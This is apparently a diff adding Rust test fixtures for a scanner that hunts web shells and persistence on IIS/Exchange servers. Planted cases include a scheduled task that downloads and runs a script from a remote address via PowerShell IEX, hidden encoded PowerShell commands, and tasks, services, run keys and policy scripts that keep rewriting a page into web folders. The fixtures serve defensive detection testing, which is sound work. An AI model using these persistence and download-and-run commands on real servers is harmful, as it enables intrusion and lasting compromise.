@@ -1,5 +1,796 @@
 //! Assemblies of any size, precompiled sites, classes elsewhere, tasks and services, other web servers.
 
-use super::Situation;
+use super::{Answer, Server, Situation};
+use crate::support::{self, hive::Written};
 
-pub(super) const SITUATIONS: &[Situation] = &[];
+/// A log of IIS in which a page of `aspnet_client` that is not there any more answered.
+fn log(day: u8) -> String {
+    format!(
+        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-02-{day} 00:00:00\r\n#Fields: \
+         date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status \
+         sc-substatus sc-win32-status time-taken\r\n2021-02-{day} 03:06:27 10.0.0.5 POST /aspnet_client/x.aspx - 443 - 203.0.113.9 \
+         UA - 200 0 0 133\r\n"
+    )
+}
+
+/// A log in which nothing is.
+fn quiet(day: u8) -> String {
+    log(day).replace("POST /aspnet_client/x.aspx", "GET /owa/auth/logon.aspx")
+}
+
+const SITE_LOGS: &str = r"C:\inetpub\logs\LogFiles\W3SVC1";
+
+fn digest<D: sha2::Digest>(bytes: &[u8]) -> String {
+    D::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
+}
+
+/// The inert page in `wwwroot`, and lists of hashes beside the server's folders.
+fn listed(server: &Server, list: &str, hash: &str) {
+    server.shell(PAGE);
+    server.write(&format!(r"C:\{list}.txt"), format!("{hash};75;listed\r\n"));
+}
+
+const PAGE: &str = r"C:\inetpub\wwwroot\x.aspx";
+
+/// A scheduled task as Windows stores it: XML in UTF-16 with a mark.
+fn task(server: &Server, name: &str, command: &str, arguments: &str) {
+    let escape = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
+    let xml = format!(
+        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" \
+         xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers><BootTrigger/></Triggers>\r\n  <Actions \
+         Context=\"Author\">\r\n    <Exec>\r\n      <Command>{}</Command>\r\n      <Arguments>{}</Arguments>\r\n    \
+         </Exec>\r\n  </Actions>\r\n</Task>\r\n",
+        escape(command),
+        escape(arguments)
+    );
+    let wide: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    server.write(&format!(r"C:\Windows\System32\Tasks\{name}"), [&b"\xFF\xFE"[..], &wide].concat());
+}
+
+/// Tasks of Windows, IIS, Exchange servers' administrators and other makers' programs: program and arguments.
+const ORDINARY_TASKS: &[(&str, &str)] = &[
+    (r"%windir%\system32\defrag.exe", "-c -h -k -g -$"),
+    (r"%windir%\system32\rundll32.exe", "Startupscan.dll,SusRunTask"),
+    (r"C:\Windows\System32\wsqmcons.exe", ""),
+    (r"%systemroot%\System32\MusNotification.exe", "Display"),
+    (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2102.4-0\MpCmdRun.exe", "-IdleTask -TaskName WdCleanup"),
+    (r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/ua /installsource scheduler"),
+    (r"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", ""),
+    (r"C:\Program Files\win-acme\wacs.exe", r#"--renew --baseuri "https://acme-v02.api.letsencrypt.org/""#),
+    ("robocopy", r"C:\inetpub\wwwroot D:\Backup\wwwroot /MIR /R:1"),
+    (r"%windir%\system32\inetsrv\appcmd.exe", "recycle apppool /apppool.name:MSExchangeOWAAppPool"),
+    ("forfiles", r#"/p "C:\inetpub\logs\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path""#),
+    ("cmd.exe", r"/c del /q C:\inetpub\logs\LogFiles\W3SVC1\*.log"),
+    (
+        "powershell.exe",
+        r#"-NoProfile -Command "Invoke-WebRequest -Uri https://mail.example.org/owa/auth/logon.aspx -UseBasicParsing""#,
+    ),
+    ("powershell.exe", r#"-NonInteractive -ExecutionPolicy Bypass -File "C:\Scripts\Clean.ps1""#),
+    (r"C:\ProgramData\chocolatey\bin\choco.exe", "upgrade all -y"),
+    (r"C:\Program Files\7-Zip\7z.exe", r"a D:\Backup\site.7z C:\inetpub\wwwroot"),
+    (
+        "powershell.exe",
+        r#"-Command "Add-PSSnapin *Exchange*; Get-MailboxDatabase | Export-Csv C:\Reports\db.csv -Encoding UTF8""#,
+    ),
+    ("sc.exe", "start w32time task_started"),
+    (r"C:\PHP\php.exe", r"-f C:\inetpub\wwwroot\cron.php"),
+];
+
+fn ordinary_tasks(server: &Server) {
+    for (at, (command, arguments)) in ORDINARY_TASKS.iter().enumerate() {
+        task(server, &format!(r"Microsoft\Windows\Part {at}\Task"), command, arguments);
+    }
+    server.write(
+        r"C:\Scripts\Clean.ps1",
+        "# Removes logs that are older than a month\r\n$days = 30\r\n$folders = 'C:\\inetpub\\logs\\LogFiles'\r\nforeach \
+         ($folder in $folders) {\r\n  Get-ChildItem $folder -Recurse -Filter *.log | Where-Object { $_.LastWriteTime -lt \
+         (Get-Date).AddDays(-$days) } | Remove-Item\r\n}\r\n",
+    );
+    server.write(r"C:\Windows\Tasks\SA.DAT", "");
+}
+
+const TASK: &str = r"C:\Windows\System32\Tasks\Microsoft\Windows\Defrag\ScheduledDefrag2";
+
+fn plain_task(server: &Server, command: &str, arguments: &str) {
+    task(server, r"Microsoft\Windows\Defrag\ScheduledDefrag2", command, arguments);
+}
+
+fn system(hive: Written) -> Vec<u8> {
+    hive.set(r"ControlSet001\Services\W3SVC", "ImagePath", r"%windir%\system32\svchost.exe -k iissvcs")
+        .set(r"ControlSet001\Services\W3SVC\Parameters", "ServiceDll", r"%windir%\system32\inetsrv\iisw3adm.dll")
+        .set(r"ControlSet001\Services\Disk", "ImagePath", r"System32\drivers\disk.sys")
+        .set(r"ControlSet001\Services\Null", "ImagePath", r"\SystemRoot\System32\drivers\null.sys")
+        .set(
+            r"ControlSet001\Services\MSExchangePop3",
+            "ImagePath",
+            r#""C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\PopImap\Microsoft.Exchange.Pop3Service.exe""#,
+        )
+        .set(
+            r"ControlSet001\Services\WinDefend",
+            "ImagePath",
+            r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2102.4-0\MsMpEng.exe""#,
+        )
+        .set(
+            r"ControlSet001\Services\HealthService",
+            "ImagePath",
+            r#""C:\Program Files\Microsoft Monitoring Agent\Agent\HealthService.exe""#,
+        )
+        .bytes()
+}
+
+const SYSTEM: &str = r"C:\Windows\System32\config\SYSTEM";
+const SOFTWARE: &str = r"C:\Windows\System32\config\SOFTWARE";
+
+fn service(server: &Server, value: &str, text: &str) {
+    let hive = Written::new("ROOT").set(r"ControlSet001\Services\Spooler2", value, text);
+    server.write(SYSTEM, system(hive));
+}
+
+fn ordinary_services(server: &Server) {
+    server.write(SYSTEM, system(Written::new("ROOT")));
+    let software = Written::new("ROOT")
+        .set(r"Microsoft\Windows\CurrentVersion\Run", "SecurityHealth", r"%windir%\system32\SecurityHealthSystray.exe")
+        .set(r"Microsoft\Windows NT\CurrentVersion\Winlogon", "Userinit", r"C:\Windows\system32\userinit.exe,")
+        .set(r"Microsoft\Windows NT\CurrentVersion\Winlogon", "Shell", "explorer.exe");
+    server.write(SOFTWARE, software.bytes());
+}
+
+const SCRIPTS: &str = r"C:\Program Files\Microsoft\Exchange Server\V15\Scripts";
+
+/// A line that puts the page there again, as a batch file.
+const AGAIN: &str = r"copy /y C:\ProgramData\Vendor\cache.txt C:\inetpub\wwwroot\aspnet_client\x.aspx";
+
+pub(super) const SITUATIONS: &[Situation] = &[
+    Situation {
+        id: "logs/named_as_configuration",
+        what: "A log of IIS is renamed to .config, which the survey of logs takes for a page",
+        plant: |server| server.write(&format!(r"{SITE_LOGS}\u_ex210227.config"), log(27)),
+        more: &[],
+        answer: Answer::Hit { check: "unknown_script" },
+        ordinary: Some(|server| {
+            server.write(&format!(r"{SITE_LOGS}\web.config"), "<configuration>\r\n</configuration>\r\n");
+            server.write(&format!(r"{SITE_LOGS}\u_ex210227.config"), quiet(27));
+        }),
+    },
+    Situation {
+        id: "logs/named_as_source",
+        what: "A log of IIS is renamed to .cs",
+        plant: |server| server.write(&format!(r"{SITE_LOGS}\Global.cs"), log(27)),
+        more: &[],
+        answer: Answer::Hit { check: "unknown_script" },
+        ordinary: None,
+    },
+    Situation {
+        id: "logs/named_as_page_in_utf_16",
+        what: "A log of IIS is stored as UTF-16 under the name of a page",
+        plant: |server| {
+            let wide: Vec<u8> = log(27).encode_utf16().flat_map(u16::to_le_bytes).collect();
+            server.write(&format!(r"{SITE_LOGS}\old.aspx"), [&b"\xFF\xFE"[..], &wide].concat());
+        },
+        more: &[],
+        answer: Answer::Hit { check: "unknown_script" },
+        ordinary: None,
+    },
+    Situation {
+        id: "logs/no_log_by_name_or_content",
+        what: "A log is packed by a program that we do not know, under the name of a page",
+        plant: |server| {
+            let packed: Vec<u8> = (0..9_000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
+            server.write(&format!(r"{SITE_LOGS}\old.vb"), [&b"7z\xBC\xAF\x27\x1C\0\x04"[..], &packed].concat());
+        },
+        more: &[],
+        answer: Answer::Gap { kind: "log_damaged", words: "old.vb" },
+        ordinary: None,
+    },
+    Situation {
+        id: "logs/moved_beside",
+        what: "A log is moved to a folder of no site beside the logs, under a name of nothing",
+        plant: |server| server.write(r"C:\inetpub\logs\old\readme.dat", log(27)),
+        more: &[],
+        answer: Answer::Hit { check: "unknown_script" },
+        ordinary: Some(|server| {
+            server.write(r"C:\inetpub\logs\FailedReqLogFiles\W3SVC1\fr000001.xml", "<failedRequest/>");
+            server.write(r"C:\inetpub\logs\wmsvc\readme.txt", "nothing\r\n");
+        }),
+    },
+    Situation {
+        id: "logs/moved_beside_configured",
+        what: "A log is moved within the folder that the configuration gives to logs, under a name of nothing",
+        plant: |server| {
+            server.edit(super::APPLICATION_HOST, r"%SystemDrive%\inetpub\logs\LogFiles", r"C:\weblogs");
+            server.write(r"C:\weblogs\W3SVC1\u_ex210226.log", quiet(26));
+            server.write(r"C:\weblogs\keep\readme.dat", log(27));
+        },
+        more: &[],
+        answer: Answer::Hit { check: "unknown_script" },
+        ordinary: None,
+    },
+    Situation {
+        id: "logs/moved_among_those_of_exchange",
+        what: "A log of the front-end proxy is moved to a folder of Exchange's logs that is not read, and named as a page",
+        plant: |server| {
+            server.write(r"C:\Program Files\Microsoft\Exchange Server\V15\Logging\Diagnostics\a.cs", log(27));
+        },
+        more: &[],
+        answer: Answer::Hit { check: "unknown_script" },
+        ordinary: Some(|server| {
+            server.write(
+                r"C:\Program Files\Microsoft\Exchange Server\V15\Logging\Diagnostics\a.log",
+                "something that is no log of requests\r\n",
+            );
+        }),
+    },
+    Situation {
+        id: "logs/event_log_renamed",
+        what: "The event log of Exchange's cmdlets is renamed, and a new one begun",
+        plant: |_| {},
+        more: &[],
+        answer: Answer::Elsewhere {
+            test: "src/logs/events/tests.rs::a_log_under_another_name_is_read_as_well",
+            says: "read by its content, whatever it is called in the folder of event logs",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "logs/flooded",
+        what: "25,000 harmless probes are made before the request that matters, each from an address of its own",
+        plant: |server| {
+            let head = log(27);
+            let (head, line) = head.split_at(head.rfind("2021-").unwrap());
+            let probes: String = (0..25_000u32)
+                .map(|n| {
+                    line.replace("203.0.113.9", &format!("2001:db8::{n:x}"))
+                        .replace("/aspnet_client/x.aspx", "/shell.php")
+                        .replace(" 200 0 0 ", " 404 0 2 ")
+                })
+                .collect();
+            server.write(&format!(r"{SITE_LOGS}\u_ex210227.log"), format!("{head}{probes}{line}"));
+        },
+        more: &[],
+        answer: Answer::Hit { check: "unknown_script" },
+        ordinary: None,
+    },
+    Situation {
+        id: "logs/flooded_in_any_order",
+        what: "Probes are made so that hits depend on which worker reads which log first",
+        plant: |_| {},
+        more: &[],
+        answer: Answer::Elsewhere {
+            test: "src/logs/ledger.rs::what_is_kept_depends_on_no_order_and_on_no_grouping",
+            says: "the worst hits are kept, the same in any order and grouping; what is left out is a gap with its number",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "lists/allowed_by_md5",
+        what: "A page is made that has the MD5 of a harmless file on the list of allowed ones",
+        plant: |server| listed(server, "allowed", &digest::<md5::Md5>(&support::stand_in())),
+        more: &["--allow-hashes", "ROOT/allowed.txt"],
+        answer: Answer::Finding { path: PAGE, reason: "signature/china_chopper_jscript_eval_page", level: "medium" },
+        ordinary: None,
+    },
+    Situation {
+        id: "lists/allowed_by_sha_1",
+        what: "The list of allowed files holds the SHA-1 of a page",
+        plant: |server| listed(server, "allowed", &digest::<sha1::Sha1>(&support::stand_in()).to_uppercase()),
+        more: &["--allow-hashes", "ROOT/allowed.txt"],
+        answer: Answer::Finding { path: PAGE, reason: "signature/china_chopper_jscript_eval_page", level: "high" },
+        ordinary: None,
+    },
+    Situation {
+        id: "lists/allowed_and_hostile",
+        what: "A page is on the list of allowed files and on that of hostile ones",
+        plant: |server| {
+            let hash = digest::<sha2::Sha256>(&support::stand_in());
+            listed(server, "allowed", &hash);
+            listed(server, "hostile", &hash);
+        },
+        more: &["--allow-hashes", "ROOT/allowed.txt", "--iocs", "ROOT/hostile.txt"],
+        answer: Answer::Finding { path: PAGE, reason: "signature/china_chopper_jscript_eval_page", level: "high" },
+        ordinary: None,
+    },
+    Situation {
+        id: "output/formula_of_another_locale",
+        what: "A file is named so that a spreadsheet which parts cells at semicolons, or knows full-width signs, runs a formula",
+        plant: |_| {},
+        more: &[],
+        answer: Answer::Elsewhere {
+            test: "src/report/text.rs::formulas_become_text",
+            says: "a quote stands before every place where a cell could begin",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "health/stand_in_for_setup",
+        what: "A small file with the version of the newest update is put in the place of ExSetup.exe",
+        plant: |_| {},
+        more: &[],
+        answer: Answer::Elsewhere {
+            test: "tests/suite/health.rs::the_patch_line_of_a_scan_has_the_doubts_of_health",
+            says: "the patch line of a scan says what speaks against it",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "tasks/recreates_page",
+        what: "A scheduled task with a name of Windows copies a page into a web folder again and again",
+        plant: |server| plain_task(server, "cmd.exe", &format!("/c {AGAIN}")),
+        more: &[],
+        answer: Answer::Finding { path: TASK, reason: "config/autostart_writes_page", level: "high" },
+        ordinary: Some(ordinary_tasks),
+    },
+    Situation {
+        id: "tasks/copies_into_web_folder",
+        what: "A scheduled task copies whatever it finds into a web folder, and names no page",
+        plant: |server| {
+            plain_task(server, "xcopy.exe", r"/y /q %ProgramData%\Vendor\* %SystemDrive%\inetpub\wwwroot\img")
+        },
+        more: &[],
+        answer: Answer::Finding { path: TASK, reason: "config/autostart_writes_to_web_folder", level: "medium" },
+        ordinary: None,
+    },
+    Situation {
+        id: "tasks/by_own_share",
+        what: "A scheduled task writes into a web folder by the share of the machine itself, with carets in its words",
+        plant: |server| plain_task(server, "cmd.exe", r"/c c^o^py C:\a.txt \\127.0.0.1\c$\inetpub\wwwroot\x.ashx"),
+        more: &[],
+        answer: Answer::Finding { path: TASK, reason: "config/autostart_writes_page", level: "high" },
+        ordinary: None,
+    },
+    Situation {
+        id: "tasks/runs_from_web_folder",
+        what: "A scheduled task runs a program that lies in a web folder",
+        plant: |server| plain_task(server, r"C:\inetpub\wwwroot\bin\update.exe", "-quiet"),
+        more: &[],
+        answer: Answer::Finding { path: TASK, reason: "config/autostart_in_web_folder", level: "medium" },
+        ordinary: None,
+    },
+    Situation {
+        id: "tasks/runs_from_drop_folder",
+        what: "A scheduled task runs a program from a folder that everybody may write to",
+        plant: |server| plain_task(server, r"%PUBLIC%\Libraries\svc.exe", ""),
+        more: &[],
+        answer: Answer::Finding { path: TASK, reason: "config/autostart_in_drop_folder", level: "medium" },
+        ordinary: None,
+    },
+    Situation {
+        id: "tasks/encoded",
+        what: "A scheduled task runs PowerShell with an encoded command",
+        plant: |server| plain_task(server, "powershell", "-nop -w hidden -e SQBuAGUAcgB0AEkAbgBlAHIAdAA="),
+        more: &[],
+        answer: Answer::Finding { path: TASK, reason: "config/autostart_encoded", level: "medium" },
+        ordinary: None,
+    },
+    Situation {
+        id: "tasks/runs_download",
+        what: "A scheduled task fetches a script and runs it",
+        plant: |server| {
+            plain_task(
+                server,
+                "powershell",
+                "-c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
+            );
+        },
+        more: &[],
+        answer: Answer::Finding { path: TASK, reason: "config/autostart_runs_download", level: "high" },
+        ordinary: None,
+    },
+    Situation {
+        id: "tasks/script_recreates_page",
+        what: "A scheduled task runs a script of an ordinary folder, which writes a page",
+        plant: |server| {
+            plain_task(server, "powershell.exe", r#"-File "C:\Scripts\Clean.ps1""#);
+            server.write(
+                r"C:\Scripts\Clean.ps1",
+                "$text = Get-Content C:\\Scripts\\text.dat -Raw\r\n$page = 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx'\r\nif \
+                 (!(Test-Path $page)) { Set-Content $page $text }\r\n",
+            );
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\Scripts\Clean.ps1",
+            reason: "config/autostart_writes_page",
+            level: "high",
+        },
+        ordinary: Some(ordinary_tasks),
+    },
+    Situation {
+        id: "tasks/script_of_any_name",
+        what: "A scheduled task lets an interpreter run a file of no extension of scripts, which names a further one that writes a page",
+        plant: |server| {
+            plain_task(server, "cmd", r#"/c "wscript.exe //e:vbscript C:\data\a.txt""#);
+            server.write(r"C:\data\a.txt", "CreateObject(\"WScript.Shell\").Run \"C:\\data\\b.bat\", 0\r\n");
+            server.write(r"C:\data\b.bat", format!("@echo off\r\n{AGAIN}\r\n"));
+            plain_task(server, "wscript.exe", r"//e:vbscript C:\data\a.txt");
+        },
+        more: &[],
+        answer: Answer::Finding { path: r"C:\data\b.bat", reason: "config/autostart_writes_page", level: "high" },
+        ordinary: None,
+    },
+    Situation {
+        id: "tasks/class_in_drop_folder",
+        what: "A scheduled task names a class alone, whose library lies where no program belongs",
+        plant: |server| {
+            let hive = Written::new("ROOT").set(
+                r"Classes\CLSID\{0D50A1C4-1111-4222-8333-444455556666}\InprocServer32",
+                "",
+                r"C:\Users\Public\a.dll",
+            );
+            server.write(SOFTWARE, hive.bytes());
+        },
+        more: &[],
+        answer: Answer::Finding { path: SOFTWARE, reason: "config/autostart_in_drop_folder", level: "medium" },
+        ordinary: Some(ordinary_services),
+    },
+    Situation {
+        id: "scripts/of_every_shell",
+        what: "The profile of every PowerShell writes a page",
+        plant: |server| {
+            server.write(
+                r"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1",
+                "Set-Content 'C:\\inetpub\\wwwroot\\x.aspx' $text\r\n",
+            );
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1",
+            reason: "config/autostart_writes_page",
+            level: "high",
+        },
+        ordinary: Some(|server| {
+            server.write(r"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1", "Set-Alias ll Get-ChildItem\r\n");
+        }),
+    },
+    Situation {
+        id: "tasks/older_form",
+        what: "A scheduled task in the older binary form writes a page",
+        plant: |server| {
+            let mut job = vec![0; 68];
+            job[20..22].copy_from_slice(&70u16.to_le_bytes());
+            job.extend([0, 0]);
+            for text in
+                [r"C:\Windows\System32\cmd.exe".to_owned(), format!("/c {AGAIN}"), String::new(), "a".to_owned()]
+            {
+                let units: Vec<u16> = text.encode_utf16().chain([0]).collect();
+                job.extend((units.len() as u16).to_le_bytes());
+                job.extend(units.into_iter().flat_map(u16::to_le_bytes));
+            }
+            server.write(r"C:\Windows\Tasks\At1.job", job);
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\Windows\Tasks\At1.job",
+            reason: "config/autostart_writes_page",
+            level: "high",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "tasks/broken",
+        what: "A scheduled task cannot be read",
+        plant: |server| server.write(r"C:\Windows\System32\Tasks\Update", "<Task><Actions><Exec><Command>x"),
+        more: &[],
+        answer: Answer::Gap { kind: "config_broken", words: "Update" },
+        ordinary: None,
+    },
+    Situation {
+        id: "tasks/of_registry_alone",
+        what: "The file of a task is removed, and the scheduler goes on with what the registry holds",
+        plant: |_| {},
+        more: &[],
+        answer: Answer::Elsewhere {
+            test: "src/targets/services.rs::actions_of_the_scheduler_are_read_and_no_damage_stops_it",
+            says: "the actions in the hive SOFTWARE are judged as those of files",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "services/command_shell",
+        what: "A service starts a shell that writes a page",
+        plant: |server| service(server, "ImagePath", &format!("%COMSPEC% /c {AGAIN}")),
+        more: &[],
+        answer: Answer::Finding { path: SYSTEM, reason: "config/autostart_writes_page", level: "high" },
+        ordinary: Some(ordinary_services),
+    },
+    Situation {
+        id: "services/in_web_folder",
+        what: "A service's program lies in a web folder",
+        plant: |server| service(server, "ImagePath", r#""C:\inetpub\wwwroot\aspnet_client\svc.exe" -k"#),
+        more: &[],
+        answer: Answer::Finding { path: SYSTEM, reason: "config/autostart_in_web_folder", level: "medium" },
+        ordinary: None,
+    },
+    Situation {
+        id: "services/on_failure",
+        what: "A service runs a program from a folder for temporary files when it fails",
+        plant: |server| service(server, "FailureCommand", r"%SystemRoot%\Temp\again.exe"),
+        more: &[],
+        answer: Answer::Finding { path: SYSTEM, reason: "config/autostart_in_drop_folder", level: "medium" },
+        ordinary: None,
+    },
+    Situation {
+        id: "services/library",
+        what: "A shared service loads a library from Users\\Public",
+        plant: |server| {
+            let hive = Written::new("ROOT").set(
+                r"ControlSet002\Services\Spooler2\Parameters",
+                "ServiceDll",
+                r"C:\Users\Public\spool.dll",
+            );
+            server.write(SYSTEM, system(hive));
+        },
+        more: &[],
+        answer: Answer::Finding { path: SYSTEM, reason: "config/autostart_in_drop_folder", level: "medium" },
+        ordinary: None,
+    },
+    Situation {
+        id: "services/wrapped",
+        what: "A wrapper that is a service runs an encoded command",
+        plant: |server| {
+            let hive = Written::new("ROOT")
+                .set(r"ControlSet001\Services\Spooler2", "ImagePath", r"C:\Program Files\nssm\nssm.exe")
+                .set(r"ControlSet001\Services\Spooler2\Parameters", "Application", "powershell.exe")
+                .set(
+                    r"ControlSet001\Services\Spooler2\Parameters",
+                    "AppParameters",
+                    "-EncodedCommand SQBuAGUAcgB0AEkAbgBlAHIAdAA=",
+                );
+            server.write(SYSTEM, system(hive));
+        },
+        more: &[],
+        answer: Answer::Finding { path: SYSTEM, reason: "config/autostart_encoded", level: "medium" },
+        ordinary: None,
+    },
+    Situation {
+        id: "services/broken_hive",
+        what: "The hive of services is damaged",
+        plant: |server| server.write(SYSTEM, vec![b'x'; 9_000]),
+        more: &[],
+        answer: Answer::Gap { kind: "config_broken", words: "SYSTEM" },
+        ordinary: None,
+    },
+    Situation {
+        id: "services/run_key",
+        what: "A run key starts a script that writes a page",
+        plant: |server| {
+            let line = format!("cmd /c {AGAIN}");
+            let hive = Written::new("ROOT").set(r"Microsoft\Windows\CurrentVersion\Run", "Update", &line);
+            server.write(SOFTWARE, hive.bytes());
+        },
+        more: &[],
+        answer: Answer::Finding { path: SOFTWARE, reason: "config/autostart_writes_page", level: "high" },
+        ordinary: Some(ordinary_services),
+    },
+    Situation {
+        id: "scripts/of_exchange",
+        what: "A line that writes a page is added to one of Exchange's own scripts, signature block and all",
+        plant: |server| {
+            let script = format!("param()\r\nWrite-Host 'x'\r\n{AGAIN}\r\n# SIG # Begin signature block\r\n# MIIa\r\n");
+            server.write(&format!(r"{SCRIPTS}\Start-Maintenance.ps1"), script);
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\Program Files\Microsoft\Exchange Server\V15\Scripts\Start-Maintenance.ps1",
+            reason: "config/autostart_writes_page",
+            level: "high",
+        },
+        ordinary: Some(|server| {
+            let script = "param([string]$Server)\r\n# Copies style sheets of the installation\r\n$web = Join-Path $exinstall \
+                          'ClientAccess\\Owa'\r\nGet-ChildItem $web -Filter *.css | ForEach-Object { Copy-Item $_ $target }\r\n\
+                          $client = New-Object System.Net.WebClient\r\nInvoke-Expression $command\r\n# SIG # Begin signature \
+                          block\r\n# MIIa\r\n";
+            server.write(&format!(r"{SCRIPTS}\Start-Maintenance.ps1"), script);
+            server.write(&format!(r"{SCRIPTS}\Mine.ps1"), "Get-Mailbox | Export-Csv C:\\Reports\\all.csv\r\n");
+        }),
+    },
+    Situation {
+        id: "scripts/of_logon",
+        what: "A script of a group policy for logons or starts writes a page",
+        plant: |server| {
+            server.write(
+                r"C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.bat",
+                format!("@echo off\r\n{AGAIN}\r\n"),
+            );
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.bat",
+            reason: "config/autostart_writes_page",
+            level: "high",
+        },
+        ordinary: Some(|server| {
+            server.write(
+                r"C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.bat",
+                "@echo off\r\nnet use H: \\\\fs\\home\r\n",
+            );
+        }),
+    },
+    Situation {
+        id: "scripts/listed_by_policy",
+        what: "A group policy lists a script with an encoded command",
+        plant: |server| {
+            let ini = "\r\n[Startup]\r\n0CmdLine=powershell.exe\r\n0Parameters=-enc SQBuAGUAcgB0AEkAbgBlAHIAdAA=\r\n";
+            let wide: Vec<u8> = ini.encode_utf16().flat_map(u16::to_le_bytes).collect();
+            server.write(
+                r"C:\Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini",
+                [&b"\xFF\xFE"[..], &wide].concat(),
+            );
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini",
+            reason: "config/autostart_encoded",
+            level: "medium",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "servers/xampp",
+        what: "A page lies in the default folder of a bundle of web servers",
+        plant: |server| server.shell(r"C:\xampp\htdocs\dashboard\x.aspx"),
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\xampp\htdocs\dashboard\x.aspx",
+            reason: "signature/china_chopper_jscript_eval_page",
+            level: "high",
+        },
+        ordinary: Some(|server| server.write(r"C:\xampp\htdocs\index.html", "<html><body>It works</body></html>")),
+    },
+    Situation {
+        id: "servers/apache_alias",
+        what: "Apache serves a folder that an included file of its configuration names",
+        plant: |server| {
+            server.write(
+                r"C:\Apache24\conf\httpd.conf",
+                "Define SRVROOT \"C:/Apache24\"\r\nServerRoot \"${SRVROOT}\"\r\nInclude conf/extra/*.conf\r\n",
+            );
+            server.write(r"C:\Apache24\conf\extra\a.conf", "Alias /a \"C:/data/pictures\"\r\n");
+            server.shell(r"C:\data\pictures\x.jsp.aspx");
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\data\pictures\x.jsp.aspx",
+            reason: "signature/china_chopper_jscript_eval_page",
+            level: "high",
+        },
+        ordinary: Some(|server| {
+            server.write(
+                r"C:\Apache24\conf\httpd.conf",
+                "DocumentRoot \"C:/Apache24/htdocs\"\r\nInclude conf/extra/*.conf\r\n",
+            );
+            server.write(r"C:\Apache24\htdocs\index.html", "<html><body>It works</body></html>");
+        }),
+    },
+    Situation {
+        id: "servers/apache_elsewhere",
+        what: "Apache serves a folder of a volume that is not given",
+        plant: |server| server.write(r"C:\Apache24\conf\httpd.conf", "DocumentRoot \"E:/sites/a\"\r\n"),
+        more: &[],
+        answer: Answer::Gap { kind: "volume_not_given", words: "httpd.conf" },
+        ordinary: None,
+    },
+    Situation {
+        id: "servers/nginx_root",
+        what: "nginx, found by its folder, serves a folder of its own configuration",
+        plant: |server| {
+            server.write(
+                r"C:\tools\nginx-1.25\conf\nginx.conf",
+                "http {\n server {\n  location / { }\n  root C:/data/n;\n }\n}\n",
+            );
+            server.shell(r"C:\data\n\x.aspx");
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\data\n\x.aspx",
+            reason: "signature/china_chopper_jscript_eval_page",
+            level: "high",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "servers/tomcat_context",
+        what: "A context of Tomcat names a folder far from its own",
+        plant: |server| {
+            server.write(
+                r"C:\Program Files\Apache Software Foundation\Tomcat 9.0\conf\Catalina\localhost\a.xml",
+                r#"<Context docBase="C:\data\t" reloadable="true"/>"#,
+            );
+            server.shell(r"C:\data\t\x.aspx");
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\data\t\x.aspx",
+            reason: "signature/china_chopper_jscript_eval_page",
+            level: "high",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "servers/by_service",
+        what: "A web server under a name of nothing is found by the service that runs it",
+        plant: |server| {
+            service(server, "ImagePath", r#""C:\data\s\bin\httpd.exe" -k runservice"#);
+            server.write(r"C:\data\s\bin\httpd.exe", "MZ");
+            server.shell(r"C:\data\s\htdocs\x.aspx");
+        },
+        more: &[],
+        answer: Answer::Finding {
+            path: r"C:\data\s\htdocs\x.aspx",
+            reason: "signature/china_chopper_jscript_eval_page",
+            level: "high",
+        },
+        ordinary: None,
+    },
+    Situation {
+        id: "servers/packed_application",
+        what: "An application of Java is served out of its archive",
+        plant: |server| server.write(r"C:\wildfly-30\standalone\deployments\x.war", b"PK\x03\x04\x14\0\0\0"),
+        more: &[],
+        answer: Answer::Gap { kind: "partly_examined", words: "x.war" },
+        ordinary: None,
+    },
+    Situation {
+        id: "servers/prepended",
+        what: "PHP runs a file before every page",
+        plant: |server| server.write(r"C:\PHP\php.ini", "[PHP]\r\nauto_prepend_file = \"C:\\ProgramData\\a.txt\"\r\n"),
+        more: &[],
+        answer: Answer::Finding { path: r"C:\PHP\php.ini", reason: "config/autostart_prepended", level: "low" },
